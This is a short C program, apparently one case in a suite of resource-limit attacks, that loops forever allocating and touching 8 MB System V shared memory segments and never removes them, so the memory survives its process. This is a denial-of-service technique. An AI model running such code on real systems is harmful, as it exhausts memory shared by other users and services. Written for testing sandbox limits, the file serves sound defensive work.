// System V shared memory belongs to no process and no file.
#include "attack.h"
#include <sys/ipc.h>
#include <sys/shm.h>

int main(void) {
  for (;;) {
    int segment = shmget(IPC_PRIVATE, 8 << 20, IPC_CREAT | 0600);
    char *bytes = segment < 0 ? (char *)-1 : shmat(segment, NULL, 0);
    if (bytes == (char *)-1) return 1;
    memset(bytes, 1, 8 << 20);
    shmdt(bytes);
  }
}
